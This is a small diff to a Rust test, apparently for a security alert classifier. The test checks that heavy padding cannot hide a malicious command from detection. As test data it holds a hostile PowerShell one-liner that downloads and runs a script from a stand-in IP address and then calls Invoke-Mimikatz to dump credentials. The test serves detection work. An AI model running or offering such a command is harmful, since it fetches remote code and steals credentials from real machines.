@@ -176,7 +176,8 @@ fn padding_in_a_vendors_payload_cannot_push_a_command_out() {
         let alert = one(&payload);
         Judgement::of(&alert, Ruleset::built_in()).conclude(&Consultation::NotAsked).verdict
     };
-    let attack = "-w hidden -c iex((new-object net.webclient).downloadstring('http://198.51.100.7/a.ps1'));Invoke-Mimikatz";
+    let attack =
+        "-w hidden -c iex((new-object net.webclient).downloadstring('http://198.51.100.7/a.ps1'));Invoke-Mimikatz";
     let plain = level(&format!("powershell {attack}"));
     assert!(plain >= VerdictLevel::High);
     for padding in [" ".repeat(9_000), "\u{a0}".repeat(20_000), format!("#{} ", "a b".repeat(4_000))] {
